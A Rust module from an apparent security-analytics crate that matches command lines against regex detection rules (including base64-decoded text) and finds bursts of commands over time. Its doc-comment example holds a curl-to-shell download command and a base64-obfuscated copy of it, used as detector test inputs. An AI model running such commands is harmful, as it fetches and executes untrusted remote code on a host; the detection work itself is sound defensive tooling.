//! Risky command lines and command bursts.
//!
//! Rules are data: a JSON file of named regexes (`rules/cmd_line_rules.json` in this
//! crate holds the built-in set, each rule with a description and ATT&CK technique).
//! Users add their own in the same shape, or in msticpy's `{"Syslog": [regex, ...]}`
//! shape. A command is checked as written and, when it carries base64, as decoded —
//! msticpy decodes but then matches only the original text.
//!
//! ```
//! use sectools::CmdRules;
//!
//! let rules = CmdRules::builtin();
//! let hits = rules.check("curl -s http://203.0.113.9/x.sh | sudo bash", None);
//! assert_eq!(hits[0].rule.name, "download-piped-to-shell");
//! // The payload is only visible once decoded.
//! let hidden = "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveC5zaCB8IGJhc2g= | base64 -d | sh";
//! let names: Vec<_> = rules.check(hidden, None).iter().map(|h| h.rule.name.clone()).collect();
//! assert!(names.contains(&"download-piped-to-shell".to_string()));
//! ```

use std::path::Path;

use chrono::{DateTime, NaiveDateTime, Utc};
use polars::prelude::*;
use regex::Regex;
use serde::Deserialize;

use crate::frame::{self, string_column};
use crate::{B64Unpacker, SectoolsError};

const BUILTIN_RULES: &str = include_str!("../rules/cmd_line_rules.json");

/// One named pattern.
#[derive(Debug, Clone)]
pub struct CmdRule {
    /// Short identifier, e.g. `download-piped-to-shell`.
    pub name: String,
    /// The compiled pattern.
    pub pattern: Regex,
    /// What a match means.
    pub description: String,
    /// MITRE ATT&CK technique id, if any.
    pub mitre: Option<String>,
    /// Log types (`Linux`, `Windows`, or msticpy's `Syslog`) the rule applies to; empty means all.
    pub log_types: Vec<String>,
}

/// A set of rules.
#[derive(Debug, Clone)]
pub struct CmdRules {
    rules: Vec<CmdRule>,
}

/// Where a rule matched.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MatchedIn {
    /// The command as written.
    Command,
    /// Text decoded from base64 inside the command.
    Decoded,
}

/// A rule that matched a command.
#[derive(Debug, Clone)]
pub struct CmdHit<'r> {
    /// The rule.
    pub rule: &'r CmdRule,
    /// Where it matched.
    pub matched_in: MatchedIn,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RuleFile {
    #[serde(default)]
    #[allow(dead_code)]
    description: Option<String>,
    rules: Vec<RuleEntry>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RuleEntry {
    name: String,
    pattern: String,
    description: String,
    #[serde(default)]
    mitre: Option<String>,
    #[serde(default)]
    log_types: Vec<String>,
}

/// Log-type names that mean the same source family.
fn same_family(a: &str, b: &str) -> bool {
    let family = |t: &str| match t.to_ascii_lowercase().as_str() {
        "syslog" | "linux" | "linuxaudit" | "auditd" => "linux".to_string(),
        "windows" | "securityevent" | "wineventlog" => "windows".to_string(),
        other => other.to_string(),
    };
    family(a) == family(b)
}

impl CmdRules {
    /// The built-in rules.
    pub fn builtin() -> Self {
        // The bundled file is tested; failing here would be a build defect, not user input.
        Self::from_json(BUILTIN_RULES, "built-in")
            .unwrap_or_else(|e| panic!("bundled cmd_line_rules.json: {e}"))
    }

    /// Rules from JSON text: huntrs's `{"rules": [{name, pattern, description, ...}]}` or
    /// msticpy's `{"LogType": ["regex", ...]}`. `source_name` appears in errors.
    pub fn from_json(text: &str, source_name: &str) -> Result<Self, SectoolsError> {
        let err = |message: String| SectoolsError::Rules {
            source_name: source_name.to_string(),
            message,
        };
        let value: serde_json::Value =
            serde_json::from_str(text).map_err(|e| err(e.to_string()))?;
        let entries: Vec<RuleEntry> = if value.get("rules").is_some() {
            serde_json::from_value::<RuleFile>(value)
                .map_err(|e| err(e.to_string()))?
                .rules
        } else {
            let map = value
                .as_object()
                .ok_or_else(|| err("expected a JSON object".into()))?;
            let mut entries = Vec::new();
            for (log_type, patterns) in map {
                let patterns = patterns.as_array().ok_or_else(|| {
                    err(format!("'{log_type}' should be a list of regex strings"))
                })?;
                for (i, pattern) in patterns.iter().enumerate() {
                    let pattern = pattern.as_str().ok_or_else(|| {
                        err(format!("'{log_type}' item {} is not a string", i + 1))
                    })?;
                    entries.push(RuleEntry {
                        name: format!("{log_type}-{}", i + 1),
                        pattern: pattern.to_string(),
                        description: format!("custom {log_type} rule"),
                        mitre: None,
                        log_types: vec![log_type.clone()],
                    });
                }
            }
            entries
        };
        let rules = entries
            .into_iter()
            .map(|e| {
                let pattern = Regex::new(&e.pattern)
                    .map_err(|re| err(format!("rule '{}': invalid pattern: {re}", e.name)))?;
                Ok(CmdRule {
                    name: e.name,
                    pattern,
                    description: e.description,
                    mitre: e.mitre,
                    log_types: e.log_types,
                })
            })
            .collect::<Result<Vec<_>, SectoolsError>>()?;
        Ok(CmdRules { rules })
    }

    /// Rules from a JSON file.
    pub fn load(path: impl AsRef<Path>) -> Result<Self, SectoolsError> {
        let text =
            std::fs::read_to_string(path.as_ref()).map_err(|e| SectoolsError::io(&path, e))?;
        Self::from_json(&text, &path.as_ref().display().to_string())
    }

    /// These rules followed by `other`'s (defaults plus user rules).
    pub fn with(mut self, other: CmdRules) -> Self {
        self.rules.extend(other.rules);
        self
    }

    /// The rules, in order.
    pub fn rules(&self) -> &[CmdRule] {
        &self.rules
    }

    /// Rules matching `command` as written or as decoded from base64, for one log type (or all).
    pub fn check(&self, command: &str, log_type: Option<&str>) -> Vec<CmdHit<'_>> {
        let applicable = |rule: &&CmdRule| {
            log_type.is_none_or(|t| {
                rule.log_types.is_empty() || rule.log_types.iter().any(|r| same_family(r, t))
            })
        };
        let mut hits: Vec<CmdHit<'_>> = self
            .rules
            .iter()
            .filter(applicable)
            .filter(|r| r.pattern.is_match(command))
            .map(|rule| CmdHit {
                rule,
                matched_in: MatchedIn::Command,
            })
            .collect();
        let decoded = B64Unpacker::default().unpack(command);
        let texts: Vec<&str> = decoded
            .items
            .iter()
            .filter_map(|i| i.decoded_string.as_deref())
            .collect();
        if !texts.is_empty() {
            for rule in self.rules.iter().filter(applicable) {
                if hits.iter().any(|h| std::ptr::eq(h.rule, rule)) {
                    continue;
                }
                if texts.iter().any(|t| rule.pattern.is_match(t)) {
                    hits.push(CmdHit {
                        rule,
                        matched_in: MatchedIn::Decoded,
                    });
                }
            }
        }
        hits
    }

    /// The rows of `events` whose `command_column` matches a rule: every input column,
    /// plus `Rule`, `Description`, `Mitre` and `MatchedIn` (`command` or `decoded`).
    /// A row matching several rules appears once per rule.
    pub fn risky_cmd_line(
        &self,
        events: &DataFrame,
        command_column: &str,
        log_type: Option<&str>,
    ) -> Result<DataFrame, SectoolsError> {
        let commands = string_column(events, command_column)?;
        let mut rows: Vec<IdxSize> = Vec::new();
        let (mut names, mut descriptions, mut mitre, mut matched_in) =
            (Vec::new(), Vec::new(), Vec::new(), Vec::new());
        for (row, command) in commands.iter().enumerate() {
            let Some(command) = command else { continue };
            for hit in self.check(command, log_type) {
                rows.push(row as IdxSize);
                names.push(hit.rule.name.clone());
                descriptions.push(hit.rule.description.clone());
                mitre.push(hit.rule.mitre.clone());
                matched_in.push(match hit.matched_in {
                    MatchedIn::Command => "command",
                    MatchedIn::Decoded => "decoded",
                });
            }
        }
        let mut out = events.take(&IdxCa::from_vec("idx".into(), rows))?;
        for column in [
            Column::new("Rule".into(), names),
            Column::new("Description".into(), descriptions),
            Column::new("Mitre".into(), mitre),
            Column::new("MatchedIn".into(), matched_in),
        ] {
            out.with_column(column)?;
        }
        Ok(out)
    }
}

/// Times of a column as UTC milliseconds: datetime columns directly, strings parsed as RFC 3339 or `YYYY-MM-DD HH:MM:SS[.f]`.
pub(crate) fn times_ms(df: &DataFrame, column: &str) -> Result<Vec<Option<i64>>, SectoolsError> {
    let col = frame::column(df, column)?;
    match col.dtype() {
        DataType::Datetime(unit, _) => {
            let per_ms = match unit {
                TimeUnit::Nanoseconds => 1_000_000,
                TimeUnit::Microseconds => 1_000,
                TimeUnit::Milliseconds => 1,
            };
            let phys = col.to_physical_repr();
            Ok(phys
                .i64()?
                .iter()
                .map(|v| v.map(|v| v.div_euclid(per_ms)))
                .collect())
        }
        DataType::String => {
            let text = string_column(df, column)?;
            text.iter()
                .enumerate()
                .map(|(row, v)| {
                    v.map(|v| {
                        parse_time(v).ok_or_else(|| {
                            SectoolsError::InvalidInput(format!(
                                "column '{column}' row {row}: '{v}' is not a date-time (RFC 3339 or YYYY-MM-DD HH:MM:SS)"
                            ))
                        })
                    })
                    .transpose()
                })
                .collect()
        }
        other => Err(SectoolsError::ColumnType {
            column: column.to_string(),
            actual: other.to_string(),
            expected: "Datetime or String".to_string(),
        }),
    }
}

fn parse_time(text: &str) -> Option<i64> {
    let text = text.trim();
    if let Ok(t) = DateTime::parse_from_rfc3339(text) {
        return Some(t.with_timezone(&Utc).timestamp_millis());
    }
    [
        "%Y-%m-%d %H:%M:%S%.f",
        "%Y-%m-%dT%H:%M:%S%.f",
        "%Y-%m-%d %H:%M:%S%.fZ",
    ]
    .iter()
    .find_map(|f| NaiveDateTime::parse_from_str(text, f).ok())
    .map(|t| t.and_utc().timestamp_millis())
}

/// Bursts of commands: windows of `window` in which at least `min_events` commands ran.
/// Overlapping windows are merged, so each burst is reported once with its start, end,
/// event count and commands (msticpy reports one overlapping window per event).
pub fn cmd_speed(
    events: &DataFrame,
    command_column: &str,
    time_column: &str,
    window: chrono::Duration,
    min_events: usize,
) -> Result<DataFrame, SectoolsError> {
    if min_events == 0 {
        return Err(SectoolsError::InvalidInput(
            "min_events must be at least 1".into(),
        ));
    }
    let commands = string_column(events, command_column)?;
    let times = times_ms(events, time_column)?;
    let mut timed: Vec<(i64, &str)> = times
        .iter()
        .zip(commands.iter())
        .filter_map(|(t, c)| Some(((*t)?, c?)))
        .filter(|(_, c)| !c.trim().is_empty())
        .collect();
    timed.sort_by_key(|(t, _)| *t);
    let span = window.num_milliseconds();
    // Mark every event that sits in some window holding `min_events` events.
    let mut in_burst = vec![false; timed.len()];
    let mut left = 0;
    for right in 0..timed.len() {
        while timed[right].0 - timed[left].0 > span {
            left += 1;
        }
        if right + 1 - left >= min_events {
            in_burst[left..=right].iter_mut().for_each(|b| *b = true);
        }
    }
    let (mut starts, mut ends, mut counts, mut cmds) =
        (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    let mut i = 0;
    while i < timed.len() {
        if !in_burst[i] {
            i += 1;
            continue;
        }
        let mut j = i;
        while j + 1 < timed.len() && in_burst[j + 1] && timed[j + 1].0 - timed[j].0 <= span {
            j += 1;
        }
        starts.push(timed[i].0);
        ends.push(timed[j].0);
        counts.push((j - i + 1) as u32);
        cmds.push(
            timed[i..=j]
                .iter()
                .map(|(_, c)| *c)
                .collect::<Vec<_>>()
                .join("\n"),
        );
        i = j + 1;
    }
    let utc_ms = DataType::Datetime(TimeUnit::Milliseconds, Some(polars::prelude::TimeZone::UTC));
    Ok(DataFrame::new_infer_height(vec![
        Column::new("StartTime".into(), starts).cast(&utc_ms)?,
        Column::new("EndTime".into(), ends).cast(&utc_ms)?,
        Column::new("Events".into(), counts),
        Column::new("Commands".into(), cmds),
    ])?)
}
